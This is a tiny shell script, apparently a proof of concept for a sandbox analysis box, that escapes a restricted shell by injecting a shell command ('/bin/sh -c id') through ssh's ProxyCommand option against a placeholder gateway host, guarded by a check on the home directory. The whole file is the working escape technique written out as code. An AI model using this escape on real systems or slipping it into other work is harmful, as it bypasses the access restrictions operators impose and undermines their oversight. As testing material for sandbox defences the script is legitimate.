#!/bin/sh
# SPDX-License-Identifier: MIT
# Escapes a restricted shell through ssh: its ProxyCommand, run by a shell
# before any connection, is a shell of the operator's.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
timeout 3 ssh -o 'ProxyCommand=;/bin/sh -c "id" 0<&2 1>&2' -o BatchMode=yes gateway.example.net </dev/null >/dev/null 2>&1
exit 0
